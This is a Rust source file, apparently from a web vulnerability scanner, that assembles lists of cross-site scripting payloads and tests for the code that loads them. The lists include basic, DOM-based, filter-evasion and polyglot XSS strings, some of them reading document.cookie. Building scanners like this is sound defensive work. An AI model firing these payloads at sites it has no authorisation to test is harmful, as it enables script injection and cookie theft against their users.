// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! XSS payload corpora
//!
//! Static, ordered payload lists plus [`PayloadCorpus`], which assembles the
//! list a scan actually uses from the enabled subsets.

use std::path::Path;

use tracing::info;

use crate::error::Result;

/// Script, image, SVG and event-handler basics
pub const BASIC: &[&str] = &[
    "<script>alert(1)</script>",
    r#"<script>alert("XSS")</script>"#,
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    r#"<img src=x onerror=alert("XSS")>"#,
    "<img src=x onerror=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    r#"<svg onload=alert("XSS")>"#,
    "<svg onload=alert(document.cookie)>",
    "<body onload=alert(1)>",
    r#"<body onload=alert("XSS")>"#,
    "<body onload=alert(document.cookie)>",
    "<input autofocus onfocus=alert(1)>",
    r#"<input autofocus onfocus=alert("XSS")>"#,
    "<input autofocus onfocus=alert(document.cookie)>",
    r#"<iframe src="javascript:alert(1)"></iframe>"#,
    r#"<iframe src="javascript:alert('XSS')"></iframe>"#,
    r#"<iframe src="javascript:alert(document.cookie)"></iframe>"#,
    r#"<div onmouseover="alert(1)">Hover me</div>"#,
    r#"<div onmouseover="alert('XSS')">Hover me</div>"#,
    r#"<div onmouseover="alert(document.cookie)">Hover me</div>"#,
    r#"<a href="javascript:alert(1)">Click me</a>"#,
    r#"<a href="javascript:alert('XSS')">Click me</a>"#,
    r#"<a href="javascript:alert(document.cookie)">Click me</a>"#,
    r#"<button onclick="alert(1)">Click me</button>"#,
    r#"<button onclick="alert('XSS')">Click me</button>"#,
    r#"<button onclick="alert(document.cookie)">Click me</button>"#,
    "<textarea onfocus=alert(1) autofocus>",
    r#"<textarea onfocus=alert("XSS") autofocus>"#,
    "<textarea onfocus=alert(document.cookie) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    r#"<select onfocus=alert("XSS") autofocus>"#,
    "<select onfocus=alert(document.cookie) autofocus>",
    "<marquee onstart=alert(1)>",
    r#"<marquee onstart=alert("XSS")>"#,
    "<marquee onstart=alert(document.cookie)>",
    "<video src=x onerror=alert(1)>",
    r#"<video src=x onerror=alert("XSS")>"#,
    "<video src=x onerror=alert(document.cookie)>",
    "<audio src=x onerror=alert(1)>",
    r#"<audio src=x onerror=alert("XSS")>"#,
    "<audio src=x onerror=alert(document.cookie)>",
];

/// Protocol, data URI, exotic handler and embed payloads
pub const ADVANCED: &[&str] = &[
    "javascript:alert(1)",
    r#"javascript:alert("XSS")"#,
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgiWFNTIik8L3NjcmlwdD4=",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+",
    "onload=alert(1)",
    r#"onload=alert("XSS")"#,
    "onload=alert(document.cookie)",
    r#"<script>eval(atob("YWxlcnQoMSk="))</script>"#,
    r#"<script>eval(atob("YWxlcnQoIlhTUyIp"))</script>"#,
    r#"<script>eval(atob("YWxlcnQoZG9jdW1lbnQuY29va2llKQ=="))</script>"#,
    r#"<script src="data:text/javascript,alert(1)"></script>"#,
    r#"<script src="data:text/javascript,alert('XSS')"></script>"#,
    r#"<script src="data:text/javascript,alert(document.cookie)"></script>"#,
    "<div onwheel=alert(1)>Scroll me</div>",
    "<div ondrag=alert(1)>Drag me</div>",
    "<div onkeydown=alert(1)>Press any key</div>",
    r#"<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(1)"></div>"#,
    r#"<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert('XSS')"></div>"#,
    r#"<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(document.cookie)"></div>"#,
    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
    r#"<meta http-equiv="refresh" content="0;url=javascript:alert('XSS')">"#,
    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(document.cookie)">"#,
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>",
    r#"<svg><animate onbegin=alert("XSS") attributeName=x dur=1s></animate></svg>"#,
    "<svg><animate onbegin=alert(document.cookie) attributeName=x dur=1s></animate></svg>",
    "<script onload=alert(1)></script>",
    r#"<script onload=alert("XSS")></script>"#,
    "<script onload=alert(document.cookie)></script>",
    "<div contextmenu=xss><menu type=context id=xss onshow=alert(1)></menu></div>",
    r#"<div contextmenu=xss><menu type=context id=xss onshow=alert("XSS")></menu></div>"#,
    "<div contextmenu=xss><menu type=context id=xss onshow=alert(document.cookie)></menu></div>",
    "<form><button formaction=javascript:alert(1)>Click me</button></form>",
    r#"<form><button formaction=javascript:alert("XSS")>Click me</button></form>"#,
    "<form><button formaction=javascript:alert(document.cookie)>Click me</button></form>",
    r#"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>"#,
    r#"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgiWFNTIik8L3NjcmlwdD4="></object>"#,
    r#"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+"></object>"#,
    r#"<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></embed>"#,
    r#"<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgiWFNTIik8L3NjcmlwdD4="></embed>"#,
    r#"<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+"></embed>"#,
    r#"<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">Click me</maction></math>"#,
    r#"<math><maction actiontype="statusline#" xlink:href="javascript:alert('XSS')">Click me</maction></math>"#,
    r#"<math><maction actiontype="statusline#" xlink:href="javascript:alert(document.cookie)">Click me</maction></math>"#,
];

/// Payloads aimed at client-side sinks
pub const DOM: &[&str] = &[
    "#<script>alert(1)</script>",
    "#<img src=x onerror=alert(1)>",
    "#javascript:alert(1)",
    "?q=<script>alert(1)</script>",
    "?q=<img src=x onerror=alert(1)>",
    "?q=javascript:alert(1)",
    r#"<script>history.pushState("", "", "/?referrer=<script>alert(1)</script>");</script>"#,
    r#"<script>history.pushState("", "", "/?referrer=<img src=x onerror=alert(1)>");</script>"#,
    r#"<script>history.pushState("", "", "/?referrer=javascript:alert(1)");</script>"#,
    r#"<script>history.pushState("", "", "/<script>alert(1)</script>");</script>"#,
    r#"<script>history.pushState("", "", "/<img src=x onerror=alert(1)>");</script>"#,
    r#"<script>history.pushState("", "", "/javascript:alert(1)");</script>"#,
    r#"<script>document.body.innerHTML="<script>alert(1)<\/script>";</script>"#,
    r#"<script>document.body.innerHTML="<img src=x onerror=alert(1)>";</script>"#,
    r#"<script>document.body.innerHTML="<iframe src=javascript:alert(1)></iframe>";</script>"#,
    r#"<script>document.body.insertAdjacentHTML("beforeend","<script>alert(1)<\/script>");</script>"#,
    r#"<script>document.body.insertAdjacentHTML("beforeend","<img src=x onerror=alert(1)>");</script>"#,
    r#"<script>document.body.insertAdjacentHTML("beforeend","<iframe src=javascript:alert(1)></iframe>");</script>"#,
    "<script>window.onload=function(){alert(1)};</script>",
    "<script>document.body.onload=function(){alert(1)};</script>",
    "<script>document.body.onclick=function(){alert(1)};</script>",
    r#"<script>var e=document.createElement("script");e.src="data:text/javascript,alert(1)";document.body.appendChild(e);</script>"#,
    r#"<script>var e=document.createElement("img");e.src="x";e.onerror=function(){alert(1)};document.body.appendChild(e);</script>"#,
    r#"<script>var e=document.createElement("iframe");e.src="javascript:alert(1)";document.body.appendChild(e);</script>"#,
    r#"<script>document.body.setAttribute("onload","alert(1)");</script>"#,
    r#"<script>document.body.setAttribute("onclick","alert(1)");</script>"#,
    r#"<script>document.body.setAttribute("onmouseover","alert(1)");</script>"#,
    r#"<script>eval("alert(1)");</script>"#,
    r#"<script>Function("alert(1)")();</script>"#,
    r#"<script>new Function("alert(1)")();</script>"#,
    r#"<script>setTimeout("alert(1)",100);</script>"#,
    r#"<script>setInterval("alert(1)",100);</script>"#,
    "<script>setTimeout(function(){alert(1)},100);</script>",
    r#"<script>location="javascript:alert(1)";</script>"#,
    r#"<script>location.href="javascript:alert(1)";</script>"#,
    r#"<script>location.replace("javascript:alert(1)");</script>"#,
];

/// Case, encoding and tokenizer tricks for filtered targets
pub const WAF_BYPASS: &[&str] = &[
    "<ScRiPt>alert(1)</sCrIpT>",
    r#"<ScRiPt>alert("XSS")</sCrIpT>"#,
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    r#"&lt;script&gt;alert("XSS")&lt;/script&gt;"#,
    "&lt;script&gt;alert(document.cookie)&lt;/script&gt;",
    r#"<\u0073cript>alert(1)</\u0073cript>"#,
    r#"<\u0073cript>alert("XSS")</\u0073cript>"#,
    r#"<\u0073cript>alert(document.cookie)</\u0073cript>"#,
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%253Cscript%253Ealert(%2522XSS%2522)%253C%252Fscript%253E",
    "%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E",
    r#"\x3Cscript\x3Ealert(1)\x3C/script\x3E"#,
    r#"\x3Cscript\x3Ealert("XSS")\x3C/script\x3E"#,
    r#"\x3Cscript\x3Ealert(document.cookie)\x3C/script\x3E"#,
    r#"\74script\76alert(1)\74/script\76"#,
    r#"\74script\76alert("XSS")\74/script\76"#,
    r#"\74script\76alert(document.cookie)\74/script\76"#,
    "<scri<!-- -->pt>alert(1)</scri<!-- -->pt>",
    r#"<scri<!-- -->pt>alert("XSS")</scri<!-- -->pt>"#,
    "<scri<!-- -->pt>alert(document.cookie)</scri<!-- -->pt>",
    "<script\x00>alert(1)</script>",
    "<script\x00>alert(\"XSS\")</script>",
    "<script\x00>alert(document.cookie)</script>",
    "<script\x09>alert(1)</script>",
    "<script\x0a>alert(1)</script>",
    "<script\x0d>alert(1)</script>",
    "javascript:alert(1)",
    r#"javascript:alert("XSS")"#,
    "javascript:alert(document.cookie)",
    "<svg/onload=alert(1)>",
    r#"<svg/onload=alert("XSS")>"#,
    "<svg/onload=alert(document.cookie)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(document.cookie)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=alert`XSS`>",
    "<img src=x onerror=alert`document.cookie`>",
    "<script>alert`1`</script>",
    "<div/onmouseover=alert(1)>",
    r#"<div/onmouseover=alert("XSS")>"#,
    "<div/onmouseover=alert(document.cookie)>",
    "<details/open/ontoggle=alert(1)>",
    r#"<details/open/ontoggle=alert("XSS")>"#,
    "<details/open/ontoggle=alert(document.cookie)>",
    r#""><img src=x onerror=alert(1)>"#,
    r#""><img src=x onerror=alert("XSS")>"#,
    r#""><img src=x onerror=alert(document.cookie)>"#,
];

/// Payloads that break out of several contexts at once
pub const POLYGLOT: &[&str] = &[
    r#"javascript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert(1)//>>"#,
    r#"jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert("XSS") )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert("XSS")//>>"#,
    r#"jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(document.cookie) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert(document.cookie)//>>"#,
    r#"">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'-->"></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id)>'">"#,
    r#"">><marquee><img src=x onerror=confirm("XSS")></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt("XSS")><script>prompt("XSS")</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'-->"></script><script>alert("XSS")</script>"><img/id="confirm&lpar;'XSS')"/alt="/"src="/"onerror=eval(id)>'">"#,
    r#"">><marquee><img src=x onerror=confirm(document.cookie)></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt(document.cookie)><script>prompt(document.cookie)</script>@gmail.com<isindex formaction=javascript:alert(document.cookie) type=submit>'-->"></script><script>alert(document.cookie)</script>"><img/id="confirm&lpar;document.cookie)"/alt="/"src="/"onerror=eval(id)>'">"#,
    r#"'"`><script>/* */alert(1)// */</script>"#,
    r#"'"`><script>/* */alert("XSS")// */</script>"#,
    r#"'"`><script>/* */alert(document.cookie)// */</script>"#,
    r#"<noscript><p title="</noscript><script>alert(1)</script>">"#,
    r#"<noscript><p title="</noscript><script>alert("XSS")</script>">"#,
    r#"<noscript><p title="</noscript><script>alert(document.cookie)</script>">"#,
    "<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a>",
    r#"<svg><animate xlink:href=#xss attributeName=href values=javascript:alert("XSS") /><a id=xss><text x=20 y=20>XSS</text></a>"#,
    "<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(document.cookie) /><a id=xss><text x=20 y=20>XSS</text></a>",
    r#"<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>"#,
    r#"<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert("XSS")</script></html>"#,
    r#"<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(document.cookie)</script></html>"#,
    "</script><script>alert(1)</script>",
    r#"</script><script>alert("XSS")</script>"#,
    "</script><script>alert(document.cookie)</script>",
    "</style><script>alert(1)</script>",
    r#"</style><script>alert("XSS")</script>"#,
    "</style><script>alert(document.cookie)</script>",
    r#"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"#,
    r#"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert("XSS")//'>"#,
    r#"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(document.cookie)//'>"#,
];

/// Ordered payload list for one scan session
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PayloadCorpus {
    payloads: Vec<String>,
}

impl PayloadCorpus {
    /// Assemble the corpus from the enabled subsets.
    ///
    /// Basic and advanced payloads are always included, in that order,
    /// followed by DOM, WAF-bypass and polyglot payloads when enabled.
    pub fn build(dom: bool, waf_bypass: bool, polyglot: bool) -> Self {
        let mut payloads: Vec<String> = BASIC
            .iter()
            .chain(ADVANCED)
            .map(|p| p.to_string())
            .collect();

        if dom {
            payloads.extend(DOM.iter().map(|p| p.to_string()));
        }
        if waf_bypass {
            payloads.extend(WAF_BYPASS.iter().map(|p| p.to_string()));
        }
        if polyglot {
            payloads.extend(POLYGLOT.iter().map(|p| p.to_string()));
        }

        info!("Loaded {} XSS payloads", payloads.len());
        Self { payloads }
    }

    /// Corpus from an explicit list
    pub fn from_payloads<I, S>(payloads: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        Self {
            payloads: payloads.into_iter().map(Into::into).collect(),
        }
    }

    /// Append payloads parsed from text, one per line.
    ///
    /// Blank lines and lines starting with `#` are skipped. Returns how many
    /// payloads were added.
    pub fn extend_from_text(&mut self, text: &str) -> usize {
        let before = self.payloads.len();
        self.payloads.extend(
            text.lines()
                .map(|line| line.trim_end_matches('\r'))
                .filter(|line| !line.trim().is_empty() && !line.trim_start().starts_with('#'))
                .map(str::to_string),
        );
        self.payloads.len() - before
    }

    /// Append payloads from a file, one per line
    pub fn extend_from_file(&mut self, path: impl AsRef<Path>) -> Result<usize> {
        let text = std::fs::read_to_string(path.as_ref())?;
        let added = self.extend_from_text(&text);
        info!("Loaded {} custom payloads from {}", added, path.as_ref().display());
        Ok(added)
    }

    /// The first `n` payloads
    pub fn head(&self, n: usize) -> &[String] {
        &self.payloads[..n.min(self.payloads.len())]
    }

    /// All payloads in order
    pub fn as_slice(&self) -> &[String] {
        &self.payloads
    }

    /// Iterate over the payloads
    pub fn iter(&self) -> impl Iterator<Item = &String> {
        self.payloads.iter()
    }

    /// Number of payloads
    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    /// Check if the corpus is empty
    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    #[test]
    fn test_corpus_selection() {
        let base = PayloadCorpus::build(false, false, false);
        assert_eq!(base.len(), BASIC.len() + ADVANCED.len());
        assert_eq!(base.as_slice()[0], "<script>alert(1)</script>");

        let full = PayloadCorpus::build(true, true, true);
        assert_eq!(
            full.len(),
            BASIC.len() + ADVANCED.len() + DOM.len() + WAF_BYPASS.len() + POLYGLOT.len()
        );
        assert_eq!(full.as_slice()[base.len()], DOM[0]);
        assert_eq!(full.as_slice().last().map(String::as_str), POLYGLOT.last().copied());
    }

    #[test]
    fn test_waf_bypass_without_dom() {
        let corpus = PayloadCorpus::build(false, true, false);
        assert_eq!(corpus.len(), BASIC.len() + ADVANCED.len() + WAF_BYPASS.len());
        assert_eq!(corpus.as_slice()[BASIC.len() + ADVANCED.len()], WAF_BYPASS[0]);
    }

    #[test]
    fn test_head() {
        let corpus = PayloadCorpus::from_payloads(["a", "b", "c"]);
        assert_eq!(corpus.head(5), &["a", "b", "c"]);
        assert_eq!(corpus.head(2), &["a", "b"]);
    }

    #[test]
    fn test_custom_payload_file() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        writeln!(file, "# custom set").unwrap();
        writeln!(file, "<x onclick=alert(1)>").unwrap();
        writeln!(file).unwrap();
        writeln!(file, "  \"><svg/onload=alert(2)>").unwrap();

        let mut corpus = PayloadCorpus::from_payloads(["base"]);
        let added = corpus.extend_from_file(file.path()).unwrap();

        assert_eq!(added, 2);
        assert_eq!(
            corpus.as_slice(),
            &["base", "<x onclick=alert(1)>", "  \"><svg/onload=alert(2)>"]
        );
    }

    #[test]
    fn test_missing_payload_file() {
        let mut corpus = PayloadCorpus::default();
        assert!(corpus.extend_from_file("/nonexistent/payloads.txt").is_err());
    }
}
